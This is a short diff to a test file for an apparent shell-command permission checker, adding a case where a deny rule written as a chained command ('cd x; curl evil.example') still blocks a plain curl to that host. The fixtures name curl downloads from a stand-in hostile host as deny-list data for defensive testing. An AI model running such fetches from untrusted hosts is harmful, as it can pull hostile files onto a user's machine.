@@ -206,6 +206,8 @@ describe('deny is broad', () => {
     const deny = [at('shell', '"/w" $ curl evil.example')];
     expect(access(at('shell', '"/w/x" $ sudo curl evil.example -o f'), { deny })).toBe('deny');
     expect(access(at('shell', '"/w" $ curl good.example'), { deny })).toBe('allow');
+    const either = [at('shell', '"/w" $ cd x; curl evil.example')];
+    expect(access(at('shell', '"/w" $ curl evil.example'), { deny: either })).toBe('deny');
   });
 
   it.each([10_001, 100_000])('SH-32 a command of %d characters is looked at, however it nests', (length) => {
